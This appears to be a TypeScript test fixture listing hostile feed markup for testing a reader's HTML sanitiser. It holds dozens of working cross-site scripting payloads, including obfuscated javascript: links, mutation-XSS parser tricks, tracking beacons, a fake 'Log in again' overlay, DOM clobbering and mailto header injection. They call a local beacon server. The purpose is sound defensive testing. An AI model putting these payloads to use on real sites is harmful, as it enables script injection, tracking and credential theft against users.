/** What a hostile feed might send: markup that tries to run, to tell somebody that it is read, or to pass for our own page. */

export interface Vector {
  readonly what: string
  readonly body: string
}

/** Code that leaves a mark in every window it can reach and tells the server `beacon` (`http://127.0.0.1:PORT`). */
function markingCode(beacon: string, name: string): string {
  return `top.wasRun='${name}';parent.wasRun='${name}';window.wasRun='${name}';fetch('${beacon}/ran/${name}');alert('${name}')`
}

/** `beacon` is the address of a server that takes note of whoever asks it. */
export function hostileVectors(beacon: string): readonly Vector[] {
  const code = markingCode(beacon, 'x').replaceAll("'", '&#39;')
  const raw = markingCode(beacon, 'x')
  const url = (name: string): string => `${beacon}/asked/${name}`
  const link = (href: string, text = 'A link'): string => `<p><a href="${href}">${text}</a></p>`
  return [
    { what: 'a script', body: `<script>${raw}</script>` },
    { what: 'a script from elsewhere', body: `<script src="${url('script.js')}"></script>` },
    { what: 'a module preload', body: `<link rel="modulepreload" href="${url('module.js')}">` },
    { what: 'a script in capitals and halves', body: `<ScRiPt>${raw}</sCrIpT><scr<script>ipt>${raw}</scr</script>ipt>` },
    { what: 'a broken picture with a handler', body: `<img src="x" onerror="${code}">` },
    {
      what: 'a picture with a handler for its loading',
      body: `<img src="${url('load.png')}" onload="${code}" onerror="${code}">`
    },
    { what: 'a handler without blanks', body: `<img/src="x"/onerror=${code.replaceAll(' ', '')}>` },
    {
      what: 'handlers on what is passed over',
      body: `<p onmouseover="${code}" onclick="${code}" onpointerenter="${code}">Pass over this</p>`
    },
    {
      what: 'a handler for the focus',
      body: `<p tabindex="0" autofocus onfocus="${code}" contenteditable>Focus</p><input autofocus onfocus="${code}">`
    },
    {
      what: 'a handler for an animation',
      body: `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="${code}">Moves</p>`
    },
    { what: 'details that are opened', body: `<details open ontoggle="${code}"><summary>More</summary>Text</details>` },
    {
      what: 'media with a handler',
      body: `<video src="${url('v.mp4')}" poster="${url('poster.png')}" onerror="${code}"></video>` +
        `<audio src="${url('a.mp3')}" autoplay onerror="${code}"></audio>`
    },
    { what: 'a marquee', body: `<marquee onstart="${code}" loop="1" width="0">Runs</marquee>` },
    { what: 'a link to code', body: link(`javascript:${code}`) },
    {
      what: 'a link to code in capitals, with a tab and a line break',
      body: link(`JaVa&#9;ScRi&#10;pt:${code}`) + link(`&#1;javascript:${code}`)
    },
    { what: 'a link to code behind entities', body: link(`&#106;&#x61;vascript&colon;${code}`) },
    {
      what: 'a link to a document in itself',
      body: link(`data:text/html,<script>${code}</script>`) + link(`data:text/html;base64,${btoa(`<script>${raw}</script>`)}`)
    },
    {
      what: 'links to files, views of sources and other programs',
      body: ['file:///etc/hostname', 'view-source:https://x.example', 'vbscript:msgbox(1)', `feed:javascript:${code}`,
        'blob:null/1', 'chrome://settings', 'ms-msdt:x', 'smb://x.example/a', 'app://main/index.html']
        .map(href => link(href, href.slice(0, 6))).join('')
    },
    {
      what: 'a letter with headers of its own',
      body: link('mailto:a@x.example?subject=Hi%0d%0aBcc:b@x.example') + link('mailto:desk@quay-gazette.example', 'Write to us')
    },
    {
      what: 'a link that opens a window',
      body: `<p><a href="${url('blank')}" target="_blank" rel="opener">Opens</a>` +
        `<a href="${url('top')}" target="_top" ping="${url('ping')}">Replaces</a></p>`
    },
    {
      what: 'a link to a fragment',
      body: '<p><a href="#">Up</a><a href="#article-body">Here</a><a href="#%E0%A4%A">Broken</a>' +
        '<a href="#/settings">Settings</a></p>'
    },
    { what: 'a link that is downloaded', body: `<p><a href="${url('tool.exe')}" download="tool.exe">Download</a></p>` },
    {
      what: 'a link whose text is another address',
      body: `<p><a href="https://bank.example@${new URL(beacon).host}/asked/at">https://bank.example</a></p>`
    },
    {
      what: 'a picture map',
      body: `<img src="${url('map.png')}" usemap="#m"><map name="m"><area shape="default" href="javascript:${code}">` +
        `</map>`
    },
    {
      what: 'a drawing with a script',
      body: `<svg onload="${code}"><script>${raw}</script><image href="${url('svg-image.png')}"/>` +
        `<use href="${url('use.svg#a')}"/></svg>`
    },
    {
      what: 'a drawing that moves its link',
      body: `<svg><a><animate attributeName="href" values="javascript:${code}"/><text x="9" y="20">Drawn link</text>` +
        `</a><set attributeName="onmouseover" to="${code}"/></svg>`
    },
    {
      what: 'a drawing with a page in it',
      body: `<svg><foreignObject><iframe src="javascript:${code}"></iframe><body onload="${code}"></body>` +
        `</foreignObject></svg>`
    },
    {
      what: 'a formula with a link',
      body: `<math href="javascript:${code}"><mtext><a xlink:href="javascript:${code}">Formula</a></mtext></math>`
    },
    {
      what: 'a style sheet',
      body: `<style>@import "${url('import.css')}"; ` +
        `body,html,pr-app{display:none!important;background:url(${url('sheet.png')})}</style>` +
        `<link rel="stylesheet" href="${url('sheet.css')}">`
    },
    {
      what: 'a layer over everything',
      body: `<div style="position:fixed;inset:0;z-index:2147483647;background:red url(${url('layer.png')})">Log in ` +
        `again</div>`
    },
    {
      what: 'styles that ask',
      body: `<p style="background:url('${url('style.png')}');list-style-image:url(${url('list.png')});` +
        `content:url(${url('content.png')})">Asks</p>` +
        `<table background="${url('table.png')}"><tr><td background="${url('cell.png')}">Cell</td></tr></table>`
    },
    {
      what: 'a frame with a page',
      body: `<iframe src="${url('frame.html')}"></iframe><frameset><frame src="${url('frameset.html')}"></frameset>`
    },
    {
      what: 'a frame with a document',
      body: `<iframe srcdoc="<script>${code.replaceAll('&', '&amp;')}</script><img src=${url('srcdoc.png')}>">` +
        `</iframe>`
    },
    {
      what: 'objects',
      body: `<object data="${url('object.html')}"><embed src="${url('embed.swf')}"></object>` +
        `<applet code="${url('applet.class')}"></applet>`
    },
    {
      what: 'a refresh',
      body: `<meta http-equiv="refresh" content="0;url=${url('refresh')}">` +
        `<meta http-equiv="set-cookie" content="a=b">`
    },
    {
      what: 'a form',
      body: `<form action="${url('form')}" method="get"><input name="password" type="password" value="1">` +
        `<button formaction="javascript:${code}">Log in</button><input type="image" src="${url('submit.png')}">` +
        `</form><isindex action="javascript:${code}">`
    },
    {
      what: 'another base',
      body: `<base href="${url('base/')}" target="_top"><img src="relative.png"><p>` +
        `<a href="relative.html">Relative</a></p>`
    },
    {
      what: 'beacons in the head',
      body: ['prefetch', 'prerender', 'preload', 'preconnect', 'dns-prefetch', 'icon', 'manifest', 'pingback']
        .map(rel => `<link rel="${rel}" as="image" href="${url(rel)}">`).join('') +
        `<script type="speculationrules">{"prefetch":[{"urls":["${url('speculation')}"]}]}</script>`
    },
    {
      what: 'pictures in sets',
      body: `<img srcset="${url('set-1.png')} 1x, ${url('set-2.png')} 2x"><picture>` +
        `<source srcset="${url('source.png')}"><img src="${url('picture.png')}"></picture>` +
        `<img lowsrc="${url('low.png')}" dynsrc="${url('dyn.png')}" src="${url('late.png')}" loading="eager">`
    },
    {
      what: 'a counter of one pixel',
      body: `<img src="${url('pixel.gif')}" width="1" height="1">` +
        `<img src="${url('hidden.png')}" style="display:none"><img src="${url('wide.gif')}" width=1>`
    },
    {
      what: 'markup that changes when read twice: noscript',
      body: `<noscript><p title="</noscript><img src=x onerror=${code.replaceAll(' ', '')}>"></noscript>`
    },
    {
      what: 'markup that changes when read twice: style in a formula',
      body: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${code}&gt;">`
    },
    {
      what: 'markup that changes when read twice: style in a drawing',
      body: `<svg></p><style><a id="</style><img src=x onerror=${code.replaceAll(' ', '')}>">`
    },
    {
      what: 'markup that changes when read twice: form in a formula',
      body: `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${code.replaceAll(' ', '')}>`
    },
    {
      what: 'markup that changes when read twice: text areas and titles',
      body: `<textarea><img title="</textarea><img src=x onerror=${code.replaceAll(' ', '')}>"></textarea><title>` +
        `<a title="</title><img src=x onerror=${code.replaceAll(' ', '')}>">`
    },
    {
      what: 'a comment that ends early',
      body: `<!--><img src=x onerror="${code}">--><!-- --!><img src=x onerror="${code}">` +
        `<![CDATA[<img src=x onerror="${code}">`
    },
    {
      what: 'an attribute with backquotes and NULs',
      body: `<img src="x\u0060 onerror=${code}" alt="\u0060\u0060onerror=${code}"><p title='">` +
        `<img src=x onerror="${code}">'>Quotes</p>`
    },
    {
      what: 'a template and a slot of our page',
      body: `<template shadowrootmode="open"><img src="x" onerror="${code}"></template><pr-app></pr-app>` +
        `<slot name="side"><img src=x onerror="${code}"></slot>`
    },
    {
      what: 'names that hide our own',
      body: '<img name="getElementById"><form id="documentElement" name="body"><input name="attributes">' +
        '<input id="article-body"></form><p id="article-body">Not the body</p>'
    },
    {
      what: 'a popover and a dialog',
      body: `<div popover id="p" onbeforetoggle="${code}">Pop</div><button popovertarget="p">Open</button>` +
        `<dialog open style="position:fixed;inset:0">Log in</dialog>`
    },
    {
      what: 'an end of our document',
      body: `</main></body></html><script>${raw}</script><body onload="${code}"><frameset onload="${code}">`
    },
    {
      what: 'everything after it as text',
      body: `<xmp><img src=x onerror="${code}"></xmp><listing><plaintext><img src=x onerror="${code}">`
    }
  ]
}

/** Headlines, bylines and tags, which are one line of plain text each. */
export function hostileLines(beacon: string): readonly string[] {
  const image = `<img src="${beacon}/asked/line.png" onerror="${markingCode(beacon, 'line')}">`
  return [
    `<script>${markingCode(beacon, 'line')}</script>Headline with a script`,
    `Headline with a picture ${image}`,
    `Headline escaped twice ${image.replaceAll('<', '&lt;').replaceAll('>', '&gt;')}`,
    'Headline turned around \u202egnp.exe\u202c and \u2066isolated',
    'Headline\u0000 with\r\nBcc: a@x.example\u0007 controls',
    `"><svg onload="${markingCode(beacon, 'line')}"> Headline out of an attribute`,
    '${headline} {{headline}} #{7*7} Headline with braces',
    '\u0001Headline with marks of a search\u0002'
  ]
}
